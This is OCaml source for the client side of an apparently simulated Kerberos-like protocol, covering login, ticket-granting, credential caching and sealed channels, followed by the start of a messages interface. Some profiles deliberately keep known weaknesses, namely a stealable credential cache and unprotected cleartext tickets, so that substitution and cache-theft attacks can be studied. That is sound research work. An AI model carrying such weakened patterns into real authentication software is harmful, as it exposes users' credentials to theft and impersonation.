      go ~attempted:false first rest

(* Credentials are parked in the host cache so the cache-theft experiment
   can steal exactly what a real intruder would find. *)
let creds_to_bytes c =
  let w = Wire.Codec.Writer.create () in
  Wire.Codec.Writer.lstring w (Principal.to_string c.service);
  Wire.Codec.Writer.lbytes w c.ticket;
  Wire.Codec.Writer.lbytes w c.session_key;
  Wire.Codec.Writer.i64 w (Int64.bits_of_float c.issued_at);
  Wire.Codec.Writer.i64 w (Int64.bits_of_float c.lifetime);
  Wire.Codec.Writer.contents w

let creds_of_bytes b =
  let r = Wire.Codec.Reader.of_bytes b in
  let service =
    match Principal.of_string (Wire.Codec.Reader.lstring r) with
    | p -> p
    | exception Invalid_argument _ ->
        Wire.Codec.fail "credentials: malformed service principal"
  in
  let ticket = Wire.Codec.Reader.lbytes r in
  let session_key = Wire.Codec.Reader.lbytes r in
  let issued_at = Int64.float_of_bits (Wire.Codec.Reader.i64 r) in
  let lifetime = Int64.float_of_bits (Wire.Codec.Reader.i64 r) in
  { service; ticket; session_key; issued_at; lifetime }

let cache_creds t label c =
  Sim.Host.cache_put t.host label (creds_to_bytes c);
  t.host.Sim.Host.logged_in <- true

let logout t =
  t.tgt_creds <- None;
  Hashtbl.reset t.svc_creds;
  Sim.Host.cache_wipe t.host

let ccache_hits t = t.ccache_hits
let ccache_misses t = t.ccache_misses
let busy_received t = t.busy_received
let breaker_trips t = t.breaker_trips
let budget_exhausted t = t.budget_exhausted
let retry_tokens t = t.budget_tokens

(* ------------------------------------------------------------------ *)
(* Login (AS exchange)                                                 *)
(* ------------------------------------------------------------------ *)

let preauth_blob t ~client_key ~nonce =
  let v =
    Wire.Encoding.Tagged
      (Messages.tag_preauth, Wire.Encoding.List [ Wire.Encoding.Int nonce ])
  in
  Messages.seal_msg t.profile t.rng ~key:client_key ~tag:Messages.tag_preauth v

(* The ticket arrives inside the sealed body (hardened) or in the clear
   alongside it (V4/draft behaviour) — in the latter case nothing vouches
   for it, which the substitution attack exploits. *)
let ticket_of_reply (rep : Messages.as_rep) (body : Messages.rep_body) =
  if Bytes.length body.Messages.b_ticket > 0 then Ok body.Messages.b_ticket
  else
    match rep.Messages.p_ticket with
    | Some t -> Ok t
    | None -> Error "reply carried no ticket"

(* Exchange spans: begin one, shadow the continuation so every completion
   path closes it, and transmit inside its context so the request packet
   nests under it. *)
let exchange_span t name =
  let tel = Sim.Net.telemetry t.net in
  let span =
    Telemetry.Collector.span_begin tel ~component:"client" name
      ~attrs:[ ("client", Principal.to_string t.me) ]
  in
  let wrap_k k r =
    Telemetry.Collector.span_finish tel
      ~outcome:(match r with Ok _ -> "ok" | Error e -> "error: " ^ e)
      span;
    k r
  in
  (tel, span, wrap_k)

let login t ?handheld ?key ?service ~password k =
  let tel, span, wrap_k = exchange_span t "client.as_exchange" in
  let k = wrap_k k in
  (* Host principals authenticate with a raw key (srvtab) instead of a
     typed password. *)
  let client_key =
    match key with Some k -> k | None -> Crypto.Str2key.derive password
  in
  let nonce = Util.Rng.next_int64 t.rng in
  let dh_keypair = ref None in
  let padata =
    let pre = if t.profile.Profile.preauth then [ Messages.Pa_preauth (preauth_blob t ~client_key ~nonce) ] else [] in
    let dh_part () =
      let grp = Crypto.Dh.group ~bits:t.profile.Profile.dh_group_bits in
      let kp = Crypto.Dh.generate t.rng grp in
      dh_keypair := Some (grp, kp);
      Messages.Pa_dh
        (Crypto.Bignum.to_bytes_be ~size:((Crypto.Bignum.num_bits grp.p + 7) / 8)
           kp.public)
    in
    match t.profile.Profile.login with
    | Profile.Password -> pre
    | Profile.Handheld_challenge -> Messages.Pa_handheld :: pre
    | Profile.Dh_protected -> dh_part () :: pre
    | Profile.Handheld_dh -> Messages.Pa_handheld :: dh_part () :: pre
  in
  let target =
    match service with
    | Some s -> s
    | None -> Principal.tgs ~realm:t.me.Principal.realm
  in
  let req =
    { Messages.q_client = t.me; q_server = target; q_nonce = nonce;
      q_addr = Sim.Host.primary_ip t.host; q_padata = padata }
  in
  Telemetry.Collector.with_context tel span (fun () ->
      kdc_call t ~realm:t.me.Principal.realm (Messages.as_req_to_value req)
        ~on_error:(fun e -> k (Error e))
        ~on_reply:(fun reply_bytes ->
          match Wire.Encoding.decode_result t.profile.Profile.encoding reply_bytes with
          | Error e -> k (Error e)
          | Ok v -> (
              match Messages.err_of_value v with
              | { e_code = _; e_text } -> k (Error ("KDC error: " ^ e_text))
              | exception Wire.Codec.Decode_error _ -> (
                  match Messages.as_rep_of_value v with
                  | exception Wire.Codec.Decode_error e -> k (Error e)
                  | rep -> (
                      let handheld_response () =
                        match rep.p_challenge with
                        | None -> Error "KDC omitted the handheld challenge"
                        | Some r ->
                            let response =
                              match handheld with
                              | Some device -> device r
                              | None ->
                                  (* No device: the login program computes
                                     {R}Kc itself from the typed password. *)
                                  Crypto.Des.encrypt_block
                                    (Crypto.Des.schedule_cached client_key)
                                    r
                            in
                            Ok (Crypto.Des.fix_parity response)
                      in
                      let dh_shared_key () =
                        match (rep.p_dh_public, !dh_keypair) with
                        | Some server_pub, Some (grp, kp) ->
                            let shared =
                              Crypto.Dh.shared_secret grp kp
                                (Crypto.Bignum.of_bytes_be server_pub)
                            in
                            Ok (Crypto.Dh.secret_to_key grp shared)
                        | _ -> Error "KDC omitted its exponential"
                      in
                      let unwrap_key =
                        match t.profile.Profile.login with
                        | Profile.Password -> Ok client_key
                        | Profile.Handheld_challenge -> handheld_response ()
                        | Profile.Dh_protected ->
                            Result.map
                              (fun kdh ->
                                Crypto.Prf.tag_key ~tag:"dh-login"
                                  (Util.Bytesutil.xor client_key kdh))
                              (dh_shared_key ())
                        | Profile.Handheld_dh -> (
                            match (handheld_response (), dh_shared_key ()) with
                            | Ok resp, Ok kdh ->
                                Ok
                                  (Crypto.Prf.tag_key ~tag:"dh-login"
                                     (Util.Bytesutil.xor resp kdh))
                            | Error e, _ | _, Error e -> Error e)
                      in
                      match unwrap_key with
                      | Error e -> k (Error e)
                      | Ok key -> (
                          match
                            Messages.open_msg t.profile ~key
                              ~tag:Messages.tag_as_rep_body rep.p_sealed
                          with
                          | Error e -> k (Error ("AS_REP: " ^ e))
                          | Ok bv -> (
                              match
                                Messages.rep_body_of_value ~tag:Messages.tag_as_rep_body
                                  t.profile.Profile.encoding bv
                              with
                              | exception Wire.Codec.Decode_error e -> k (Error e)
                              | body ->
                                  if body.b_nonce <> nonce then
                                    k (Error "AS_REP nonce mismatch (replayed reply?)")
                                  else begin
                                    match ticket_of_reply rep body with
                                    | Error e -> k (Error e)
                                    | Ok ticket ->
                                    let creds =
                                      { service = body.b_server; ticket;
                                        session_key = body.b_session_key;
                                        issued_at = body.b_issued_at;
                                        lifetime = body.b_lifetime }
                                    in
                                    (if service = None then begin
                                       t.tgt_creds <- Some creds;
                                       cache_creds t "tgt" creds
                                     end
                                     else
                                       cache_creds t
                                         ("svc:" ^ Principal.to_string creds.service)
                                         creds);
                                    k (Ok creds)
                                  end)))))))

(* ------------------------------------------------------------------ *)
(* Authenticators and the TGS exchange                                 *)
(* ------------------------------------------------------------------ *)

let build_authenticator t (creds : credentials) ?req_cksum ~now:ts () =
  let subkey_part =
    if t.profile.Profile.negotiate_session_key then Some (Util.Rng.bytes t.rng 8)
    else None
  in
  let seq_init =
    match t.profile.Profile.priv_replay with
    | Profile.Priv_sequence -> Some (Util.Rng.int t.rng 1_000_000)
    | Profile.Priv_timestamp -> None
  in
  let auth =
    { Messages.a_client = t.me; a_addr = Sim.Host.primary_ip t.host; a_timestamp = ts;
      a_req_cksum = req_cksum;
      a_ticket_cksum =
        (if t.profile.Profile.ticket_checksum_in_authenticator then
           Some
             (Crypto.Checksum.compute Crypto.Checksum.Md4 ~key:creds.session_key
                creds.ticket)
         else None);
      a_service =
        (if t.profile.Profile.ticket_checksum_in_authenticator then Some creds.service
         else None);
      a_seq_init = seq_init; a_subkey_part = subkey_part }
  in
  (auth, subkey_part, seq_init)

let seal_authenticator t (creds : credentials) auth =
  Messages.seal_msg t.profile t.rng ~key:creds.session_key
    ~tag:Messages.tag_authenticator (Messages.authenticator_to_value auth)

let rec get_ticket_via t ~(via : credentials) ?(options = Messages.no_options)
    ?additional_ticket ?(authz_data = Bytes.empty) ~hops ~service ~k () =
  if hops > 4 then k (Error "too many cross-realm hops")
  else begin
    let tel, span, wrap_k = exchange_span t "client.tgs_exchange" in
    let k = wrap_k k in
    let nonce = Util.Rng.next_int64 t.rng in
    (* The checksum over the cleartext fields rides inside the sealed
       authenticator (Draft 3 layout). *)
    let skeleton =
      { Messages.t_ap = { r_ticket = via.ticket; r_authenticator = Bytes.empty; r_mutual = false };
        t_server = service; t_nonce = nonce; t_options = options;
        t_additional_ticket = additional_ticket; t_authz_data = authz_data }
    in
    let req_cksum =
      match t.profile.Profile.encoding with
      | Wire.Encoding.V4_adhoc -> None
      | Wire.Encoding.Der_typed ->
          Some
            (Crypto.Checksum.compute t.profile.Profile.checksum ~key:via.session_key
               (Messages.tgs_req_cleartext_fields skeleton))
    in
    let auth, _, _ = build_authenticator t via ?req_cksum ~now:(now t) () in
    let req =
      { skeleton with
        t_ap =
          { r_ticket = via.ticket; r_authenticator = seal_authenticator t via auth;
            r_mutual = false } }
    in
    (* The TGS for the realm the 'via' credentials belong to. *)
    Telemetry.Collector.with_context tel span (fun () ->
        kdc_call t ~realm:via.service.Principal.realm
          (Messages.tgs_req_to_value req)
          ~on_error:(fun e ->
            k (Error (if String.equal e "KDC timeout" then "TGS timeout" else e)))
          ~on_reply:(fun reply_bytes ->
            match
              Wire.Encoding.decode_result t.profile.Profile.encoding reply_bytes
            with
            | Error e -> k (Error e)
            | Ok v -> (
                match Messages.err_of_value v with
                | { e_text; _ } -> k (Error ("TGS error: " ^ e_text))
                | exception Wire.Codec.Decode_error _ -> (
                    match Messages.as_rep_of_value v with
                    | exception Wire.Codec.Decode_error e -> k (Error e)
                    | rep -> (
                        match
                          Messages.open_msg t.profile ~key:via.session_key
                            ~tag:Messages.tag_rep_body rep.p_sealed
                        with
                        | Error e -> k (Error ("TGS_REP: " ^ e))
                        | Ok bv -> (
                            match
                              Messages.rep_body_of_value ~tag:Messages.tag_rep_body
                                t.profile.Profile.encoding bv
                            with
                            | exception Wire.Codec.Decode_error e -> k (Error e)
                            | body ->
                                if body.b_nonce <> nonce then
                                  k (Error "TGS_REP nonce mismatch")
                                else begin
                                  match ticket_of_reply rep body with
                                  | Error e -> k (Error e)
                                  | Ok ticket ->
                                  let creds =
                                    { service = body.b_server; ticket;
                                      session_key = body.b_session_key;
                                      issued_at = body.b_issued_at;
                                      lifetime = body.b_lifetime }
                                  in
                                  if Principal.equal body.b_server service then begin
                                    cache_creds t
                                      ("svc:" ^ Principal.to_string service)
                                      creds;
                                    k (Ok creds)
                                  end
                                  else
                                    (* Referral: we were handed a TGT for the
                                       next realm on the path. *)
                                    get_ticket_via t ~via:creds ~options
                                      ?additional_ticket ~authz_data
                                      ~hops:(hops + 1) ~service ~k ()
                                end))))))
  end

let tgt_expired t (c : credentials) = now t >= c.issued_at +. c.lifetime

let contains_substring ~sub s =
  let n = String.length sub and m = String.length s in
  let rec go i = i + n <= m && (String.sub s i n = sub || go (i + 1)) in
  n = 0 || go 0

(* The TGS says the TGT died (server clocks may see the expiry before
   ours does, and a mid-retry client can cross the boundary in flight). *)
let is_expiry_error e = contains_substring ~sub:"expired" e

(* Every KDC in the realm stayed silent — the failover walked the whole
   list and nobody answered. This is the one failure graceful degradation
   can paper over: a still-valid cached ticket needs no KDC at all. *)
let is_timeout_error e =
  contains_substring ~sub:"timeout" e || contains_substring ~sub:"timed out" e

type source = From_kdc | From_cache | Degraded

let degraded_fallbacks t = t.degraded

let get_ticket_ex t ?options ?additional_ticket ?authz_data ~service k =
  (* The credential cache: an unexpired service ticket is reused without
     going back to the TGS, exactly the /tmp/tkt<uid> behaviour — and with
     the same caveat the paper raises: anyone who can read the cache can
     replay its contents until they expire. Only plain requests (no
     options, no enclosed ticket, no authorization data) are cacheable. *)
  let plain = options = None && additional_ticket = None && authz_data = None in
  let sname = Principal.to_string service in
  let cached =
    if not (t.ccache && plain) then None
    else
      match Hashtbl.find_opt t.svc_creds sname with
      | Some c when not (tgt_expired t c) -> Some c
      | Some _ ->
          Hashtbl.remove t.svc_creds sname;
          None
      | None -> None
  in
  match cached with
  | Some c ->
      t.ccache_hits <- t.ccache_hits + 1;
      k (Ok (c, From_cache))
  | None ->
  if t.ccache && plain then t.ccache_misses <- t.ccache_misses + 1;
  let k r =
    match r with
    | Ok ((c : credentials), src) ->
        (* The service-ticket wallet: always kept in memory for plain
           requests (it is what degradation falls back on); parked in the
           stealable host cache only under [ccache], as before. *)
        if plain then begin
          Hashtbl.replace t.svc_creds sname c;
          if t.ccache then cache_creds t ("svc:" ^ sname) c
        end;
        k (Ok (c, src))
    | Error e when is_timeout_error e -> (
        (* All KDCs in crash windows (or unreachable): fall back to a
           still-valid cached service ticket rather than surfacing the
           timeout storm. The distinct [Degraded] source tells the caller
           the ticket came from the wallet, not a live KDC. *)
        let fallback =
          if not plain then None
          else
            match Hashtbl.find_opt t.svc_creds sname with
            | Some c when not (tgt_expired t c) -> Some c
            | _ -> None
        in
        match fallback with
        | Some c ->
            t.degraded <- t.degraded + 1;
            Telemetry.Metrics.incr
              (Telemetry.Metrics.counter
                 (Telemetry.Collector.metrics (Sim.Net.telemetry t.net))
                 "client.degraded_fallbacks");
            Sim.Net.note t.net
              (Printf.sprintf
                 "%s: no KDC reachable (%s); degraded to cached ticket for %s"
                 t.host.Sim.Host.name e sname);
            k (Ok (c, Degraded))
        | None -> k (Error e))
    | Error e -> k (Error e)
  in
  let request via ~k =
    get_ticket_via t ~via ?options ?additional_ticket
      ?authz_data:(Option.map Fun.id authz_data) ~hops:0 ~service
      ~k:(fun r -> k (Result.map (fun c -> (c, From_kdc)) r))
      ()
  in
  let relogin ~err k =
    match t.password with
    | None -> k (Error err)
    | Some pw ->
        login t ~password:pw (function
          | Error e -> k (Error (err ^ "; re-login failed: " ^ e))
          | Ok via -> k (Ok via))
  in
  match t.tgt_creds with
  | None -> relogin ~err:"not logged in" (function
      | Error e -> k (Error e)
      | Ok via -> request via ~k)
  | Some via when tgt_expired t via ->
      (* Expired by our own clock: renew before asking the TGS. *)
      relogin ~err:"TGT expired" (function
        | Error e -> k (Error e)
        | Ok via -> request via ~k)
  | Some via ->
      request via ~k:(fun r ->
          match r with
          | Error e when is_expiry_error e && t.password <> None ->
              (* Expired by the KDC's clock mid-flight: one re-login retry. *)
              relogin ~err:e (function
                | Error e -> k (Error e)
                | Ok via -> request via ~k)
          | r -> k r)

let get_ticket t ?options ?additional_ticket ?authz_data ~service k =
  get_ticket_ex t ?options ?additional_ticket ?authz_data ~service (fun r ->
      k (Result.map fst r))

(* ------------------------------------------------------------------ *)
(* AP exchange and sealed calls                                        *)
(* ------------------------------------------------------------------ *)

(* A channel's transport link: how wrapped frames leave this client and
   how the peer's frames come back. The datagram flavour is an ephemeral
   port; the stream flavour is a framed {!Sim.Tcpish} connection. Either
   way the channel machinery above it is identical. *)
type link = {
  lk_via : [ `Udp | `Tcp ];
  lk_send : bytes -> unit;
  mutable lk_recv : bytes -> unit;
  lk_teardown : unit -> unit;
}

let bump t name =
  Telemetry.Metrics.incr
    (Telemetry.Metrics.counter
       (Telemetry.Collector.metrics (Sim.Net.telemetry t.net))
       name)

let udp_link t ~dst ~dport =
  let sport = Sim.Net.ephemeral_port t.net in
  let lk =
    { lk_via = `Udp;
      lk_send = (fun raw -> Sim.Net.send t.net ~sport ~dst ~dport t.host raw);
      lk_recv = ignore;
      lk_teardown = (fun () -> Sim.Net.unlisten t.net t.host ~port:sport) }
  in
  Sim.Net.listen t.net t.host ~port:sport (fun pkt ->
      lk.lk_recv pkt.Sim.Packet.payload);
  lk

(* Frames sent before the handshake completes are parked and flushed from
   [on_connected]; a reset that we did not cause ourselves surfaces as
   [on_reset] so the caller can fail the exchange. *)
let tcp_link t ~dst ~dport ~on_reset =
  let parked = Queue.create () in
  let up = ref None in
  let torn = ref false in
  let conn_ref = ref None in
  let lk =
    { lk_via = `Tcp;
      lk_send =
        (fun raw ->
          match !up with
          | Some conn -> Sim.Tcpish.send_message conn raw
          | None -> Queue.add raw parked);
      lk_recv = ignore;
      lk_teardown =
        (fun () ->
          torn := true;
          match !conn_ref with
          | Some conn -> Sim.Tcpish.close conn
          | None -> ()) }
  in
  let conn =
    Sim.Tcpish.connect t.net t.host ~dst ~dport:(Sim.Transport.tcp_port dport)
      ~on_connected:(fun conn ->
        up := Some conn;
        Sim.Tcpish.on_message conn (fun msg -> lk.lk_recv msg);
        Queue.iter (Sim.Tcpish.send_message conn) parked;
        Queue.clear parked)
      ()
  in
  conn_ref := Some conn;
  Sim.Tcpish.on_close conn (fun ~reset -> if reset && not !torn then on_reset ());
  lk

type channel = {
  mutable chan_session : Session.t;
  mutable chan_link : link;
  chan_dst : Sim.Addr.t;
  chan_dport : int;
  chan_creds : credentials;
  chan_mutual : bool;
  mutable chan_waiting : (bytes, string) result -> unit;
  mutable chan_pending : ([ `Priv | `Safe ] * bytes) option;
      (** the in-flight request's plaintext, kept for the TCP-upgrade
          resend *)
  chan_client : t;
}

let session c = c.chan_session

let rec make_channel t session ~link ~creds ~mutual ~dst ~dport =
  let chan =
    { chan_session = session; chan_link = link; chan_dst = dst;
      chan_dport = dport; chan_creds = creds; chan_mutual = mutual;
      chan_waiting = ignore; chan_pending = None; chan_client = t }
  in
  attach_channel chan;
  chan

and attach_channel chan = chan.chan_link.lk_recv <- channel_dispatch chan

(* Replies on the channel link: priv/safe frames handed to the waiter;
   an explicit RESPONSE-TOO-BIG refusal on a datagram channel triggers
   the stream upgrade instead of surfacing an error. *)
and channel_dispatch chan raw =
  let t = chan.chan_client in
  let settle r =
    chan.chan_pending <- None;
    let waiter = chan.chan_waiting in
    chan.chan_waiting <- ignore;
    waiter r
  in
  match Frames.unwrap raw with
  | Some (kind, payload) when kind = Frames.priv -> (
      match Krb_priv.open_ chan.chan_session ~now:(now t) payload with
      | Ok data -> settle (Ok data)
      | Error e -> settle (Error (Krb_priv.error_to_string e)))
  | Some (kind, payload) when kind = Frames.safe -> (
      match Krb_safe.open_ chan.chan_session ~now:(now t) payload with
      | Ok data -> settle (Ok data)
      | Error e -> settle (Error (Krb_safe.error_to_string e)))
  | Some (kind, payload) when kind = Frames.error ->
      let err =
        match
          Messages.err_of_value
            (Wire.Encoding.decode t.profile.Profile.encoding payload)
        with
        | e -> e
        | exception Wire.Codec.Decode_error _ ->
            { Messages.e_code = Messages.err_generic;
              e_text = "unparseable error" }
      in
      if
        err.Messages.e_code = Messages.err_response_too_big
        && chan.chan_link.lk_via = `Udp
      then upgrade_channel chan
      else settle (Error err.Messages.e_text)
  | _ -> ()

(* A sealed reply that cannot fit the return path dooms the datagram
   channel outright: in sequence mode the server's discarded reply
   already advanced its send counter, so no resend on this session can
   ever line up again. The sound recovery is a fresh AP exchange over
   the stream — then the in-flight request is resealed on the new
   session and replayed, invisibly to the caller. *)
and upgrade_channel chan =
  let t = chan.chan_client in
  bump t "transport.fallback.response_too_big";
  chan.chan_link.lk_teardown ();
  Sim.Net.note t.net
    (Printf.sprintf "%s: AP reply exceeds path MTU; redoing exchange over TCP"
       t.host.Sim.Host.name);
  ap_exchange t chan.chan_creds ~mutual:chan.chan_mutual ~transport:`Tcp
    ~dst:chan.chan_dst ~dport:chan.chan_dport (function
    | Error e ->
        let waiter = chan.chan_waiting in
        chan.chan_waiting <- ignore;
        chan.chan_pending <- None;
        waiter (Error ("TCP upgrade failed: " ^ e))
    | Ok fresh ->
        chan.chan_session <- fresh.chan_session;
        chan.chan_link <- fresh.chan_link;
        attach_channel chan;
        (match chan.chan_pending with
        | None -> ()
        | Some (`Priv, data) ->
            chan.chan_link.lk_send
              (Frames.wrap Frames.priv
                 (Krb_priv.seal chan.chan_session ~now:(now t) data))
        | Some (`Safe, data) ->
            chan.chan_link.lk_send
              (Frames.wrap Frames.safe
                 (Krb_safe.seal chan.chan_session ~now:(now t) data))))

and ap_exchange t (creds : credentials) ?(mutual = true) ?deadline
    ?(transport = `Auto) ~dst ~dport k =
  (* Counts every exchange this library starts — including the internal
     re-exchange a channel's TCP upgrade performs — so an invariant of
     the form "sessions established <= honest exchanges started" can be
     checked against it. *)
  bump t "client.ap_exchange.started";
  let tel, span, wrap_k = exchange_span t "client.ap_exchange" in
  let k = wrap_k k in
  (* With a deadline the continuation can be raced by the timer: first
     completion wins, the loser is a no-op. *)
  let settled = ref false in
  let k r =
    if not !settled then begin
      settled := true;
      k r
    end
  in
  let current = ref None in
  let teardown () =
    match !current with
    | Some lk ->
        current := None;
        lk.lk_teardown ()
    | None -> ()
  in
  let finish r =
    teardown ();
    k r
  in
  (match deadline with
  | None -> ()
  | Some d ->
      Sim.Engine.schedule_after (Sim.Net.engine t.net) d (fun () ->
          if not !settled then finish (Error "AP exchange timed out")));
  (* One attempt = one link. [start] builds the link (upgrading a doomed
     datagram attempt to the stream when the AP_REQ itself cannot fit the
     path MTU), installs the mode's reply handler, and transmits the
     AP_REQ inside the span's context so it nests under the exchange. *)
  let start via ~first_frame ~install =
    let via =
      match (via, transport) with
      | `Udp, `Auto -> (
          match
            Sim.Net.path_mtu t.net ~src:(Sim.Host.primary_ip t.host) ~dst
          with
          | Some m when Bytes.length first_frame > m ->
              bump t "transport.fallback.request_too_big";
              `Tcp
          | _ -> `Udp)
      | v, _ -> v
    in
    let link =
      match via with
      | `Udp -> udp_link t ~dst ~dport
      | `Tcp ->
          tcp_link t ~dst ~dport ~on_reset:(fun () ->
              if not !settled then finish (Error "AP connection reset"))
    in
    current := Some link;
    install ~via ~link;
    Telemetry.Collector.with_context tel span (fun () ->
        link.lk_send first_frame)
  (* An error frame mid-exchange: the server's RESPONSE-TOO-BIG refusal
     on the datagram leg restarts the whole exchange over the stream
     (fresh authenticator — the refused attempt already consumed the
     old one at the server); every other error surfaces. *)
  and handle_error_frame ~via body ~retry =
    let err =
      match
        Messages.err_of_value
          (Wire.Encoding.decode t.profile.Profile.encoding body)
      with
      | e -> e
      | exception Wire.Codec.Decode_error _ ->
          { Messages.e_code = Messages.err_generic; e_text = "unparseable error" }
    in
    if
      err.Messages.e_code = Messages.err_response_too_big
      && via = `Udp && transport <> `Udp
    then begin
      bump t "transport.fallback.response_too_big";
      teardown ();
      retry `Tcp
    end
    else finish (Error err.Messages.e_text)
  in
  let send_in_span link kind payload =
    Telemetry.Collector.with_context tel span (fun () ->
        link.lk_send (Frames.wrap kind payload))
  in
  let finish_session ~link ~client_part ~server_part ~my_seq ~their_seq =
    match
      Session.derived_key t.profile ~multi:creds.session_key ~client_part
        ~server_part
    with
    | key ->
        let session =
          Session.make ~profile:t.profile ~rng:(Util.Rng.split t.rng)
            ~role:Session.Client_side ~key ~own_addr:(Sim.Host.primary_ip t.host)
            ~peer_addr:dst
            ~send_seq:(Option.value my_seq ~default:0)
            ~recv_seq:(Option.value their_seq ~default:0)
        in
        (* The channel takes ownership of the link: success must not tear
           it down with the exchange. *)
        current := None;
        Ok (make_channel t session ~link ~creds ~mutual ~dst ~dport)
    | exception Invalid_argument e -> Error e
  in
  let rec attempt via =
    match t.profile.Profile.ap_auth with
    | Profile.Timestamp _ ->
        let ts = now t in
        let auth, client_part, my_seq = build_authenticator t creds ~now:ts () in
        let ap =
          { Messages.r_ticket = creds.ticket;
            r_authenticator = seal_authenticator t creds auth; r_mutual = mutual }
        in
        let expect_body = mutual || client_part <> None || my_seq <> None in
        let first_frame =
          Frames.wrap Frames.ap_req
            (Messages.encode_msg t.profile ~tag:Messages.tag_ap_req
               (Messages.ap_req_to_value ap))
        in
        start via ~first_frame ~install:(fun ~via ~link ->
            link.lk_recv <-
              (fun raw ->
                if not !settled then
                  match Frames.unwrap raw with
                  | Some (kind, body) when kind = Frames.ap_ok ->
                      if not expect_body then
                        finish
                          (finish_session ~link ~client_part:None
                             ~server_part:None ~my_seq:None ~their_seq:None)
                      else (
                        match
                          Messages.open_msg t.profile ~key:creds.session_key
                            ~tag:Messages.tag_ap_rep_body body
                        with
                        | Error e -> finish (Error ("AP_REP: " ^ e))
                        | Ok v -> (
                            match Messages.ap_rep_body_of_value v with
                            | exception Wire.Codec.Decode_error e ->
                                finish (Error e)
                            | rep ->
                                if mutual && rep.ar_timestamp <> ts +. 1.0 then
                                  finish
                                    (Error
                                       "mutual authentication failed (bad \
                                        timestamp echo)")
                                else
                                  finish
                                    (finish_session ~link ~client_part
                                       ~server_part:rep.ar_subkey_part ~my_seq
                                       ~their_seq:rep.ar_seq_init)))
                  | Some (kind, body) when kind = Frames.error ->
                      handle_error_frame ~via body ~retry:attempt
                  | _ -> finish (Error "unexpected reply to AP_REQ")))
    | Profile.Challenge_response ->
        let ap =
          { Messages.r_ticket = creds.ticket; r_authenticator = Bytes.empty;
            r_mutual = mutual }
        in
        let client_part =
          if t.profile.Profile.negotiate_session_key then
            Some (Util.Rng.bytes t.rng 8)
          else None
        in
        let my_seq =
          match t.profile.Profile.priv_replay with
          | Profile.Priv_sequence -> Some (Util.Rng.int t.rng 1_000_000)
          | Profile.Priv_timestamp -> None
        in
        let first_frame =
          Frames.wrap Frames.ap_req
            (Messages.encode_msg t.profile ~tag:Messages.tag_ap_req
               (Messages.ap_req_to_value ap))
        in
        let stage = ref `Challenge in
        start via ~first_frame ~install:(fun ~via ~link ->
            link.lk_recv <-
              (fun raw ->
                if not !settled then
                  match (!stage, Frames.unwrap raw) with
                  | `Challenge, Some (kind, body) when kind = Frames.challenge
                    -> (
                      match
                        Messages.open_msg t.profile ~key:creds.session_key
                          ~tag:Messages.tag_challenge body
                      with
                      | Error e -> finish (Error ("challenge: " ^ e))
                      | Ok v -> (
                          match Messages.challenge_of_value v with
                          | exception Wire.Codec.Decode_error e ->
                              finish (Error e)
                          | ch ->
                              (* A well-formed sealed challenge is itself
                                 proof the server holds the session key:
                                 mutual auth. *)
                              stage := `Ok (ch.c_server_part, ch.c_seq_init);
                              let resp =
                                { Messages.cr_nonce_f = Int64.add ch.c_nonce 1L;
                                  cr_client_part = client_part;
                                  cr_seq_init = my_seq }
                              in
                              send_in_span link Frames.challenge_resp
                                (Messages.seal_msg t.profile t.rng
                                   ~key:creds.session_key
                                   ~tag:Messages.tag_challenge_resp
                                   (Messages.challenge_resp_to_value resp))))
                  | `Ok (server_part, their_seq), Some (kind, _)
                    when kind = Frames.ap_ok ->
                      finish
                        (finish_session ~link ~client_part ~server_part ~my_seq
                           ~their_seq)
                  | _, Some (kind, body) when kind = Frames.error ->
                      handle_error_frame ~via body ~retry:(fun via ->
                          stage := `Challenge;
                          attempt via)
                  | _ -> ()))
  in
  let initial = match transport with `Tcp -> `Tcp | `Udp | `Auto -> `Udp in
  attempt initial

(* Park a waiter on the channel, optionally bounded by a deadline. The
   waiter and the timer race; the first to settle wins, and the timer only
   clears the channel slot if it still holds {e this} call's waiter (a
   later call may have replaced it). *)
let wait_on_channel chan ?deadline net ~k =
  match deadline with
  | None -> chan.chan_waiting <- k
  | Some d ->
      let settled = ref false in
      let rec waiter r =
        if not !settled then begin
          settled := true;
          k r
        end
      and timer () =
        if not !settled then begin
          settled := true;
          if chan.chan_waiting == waiter then chan.chan_waiting <- ignore;
          k (Error "call timed out")
        end
      in
      chan.chan_waiting <- waiter;
      Sim.Engine.schedule_after (Sim.Net.engine net) d timer

let call_priv t chan ?deadline data ~k =
  wait_on_channel chan ?deadline t.net ~k;
  chan.chan_pending <- Some (`Priv, data);
  let sealed = Krb_priv.seal chan.chan_session ~now:(now t) data in
  chan.chan_link.lk_send (Frames.wrap Frames.priv sealed)

let send_priv_oneway t chan data =
  let sealed = Krb_priv.seal chan.chan_session ~now:(now t) data in
  chan.chan_link.lk_send (Frames.wrap Frames.priv sealed)

let call_safe t chan ?deadline data ~k =
  wait_on_channel chan ?deadline t.net ~k;
  chan.chan_pending <- Some (`Safe, data);
  let msg = Krb_safe.seal chan.chan_session ~now:(now t) data in
  chan.chan_link.lk_send (Frames.wrap Frames.safe msg)
