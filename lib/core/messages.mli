(** Protocol message types and their (de)serialization.

    Every message is built as a {!Wire.Encoding.value} wrapped in a
    message-type tag. Whether that tag survives onto the wire — and hence
    whether cross-context confusion is even detectable — depends on the
    profile's encoding (recommendation (b)). *)

(** Message-type tags. *)

val tag_ticket : int
val tag_authenticator : int
val tag_as_req : int
val tag_as_rep : int
val tag_as_rep_body : int
val tag_tgs_req : int
val tag_tgs_rep : int
val tag_rep_body : int
val tag_ap_req : int
val tag_ap_rep : int
val tag_ap_rep_body : int
val tag_challenge : int
val tag_challenge_resp : int
val tag_safe : int
val tag_err : int
val tag_preauth : int
val tag_keystore : int
val tag_deadline : int

type ticket = {
  server : Principal.t;
  client : Principal.t;
  addr : Sim.Addr.t option;  (** [None] when the profile omits addresses *)
  issued_at : float;  (** KDC clock *)
  lifetime : float;
  session_key : bytes;
  forwarded : bool;  (** V5 flag bit — with no record of the origin *)
  dup_skey : bool;
      (** Draft 3's DUPLICATE-SKEY marker: this ticket's session key is
          shared with another ticket (REUSE-SKEY issuance). The draft
          "explicitly warns against using tickets with DUPLICATE-SKEY set
          for authentication. Servers that obey this restriction are not
          vulnerable" to the redirect attack. *)
  transited : string list;  (** realms crossed on the way here *)
}

type authenticator = {
  a_client : Principal.t;
  a_addr : Sim.Addr.t;
  a_timestamp : float;  (** client clock *)
  a_req_cksum : bytes option;
      (** TGS requests: checksum over the cleartext request fields (Draft 3
          moved those fields outside the encryption) *)
  a_ticket_cksum : bytes option;  (** hardened: collision-proof link to the ticket *)
  a_service : Principal.t option;  (** hardened: name the intended service *)
  a_seq_init : int option;
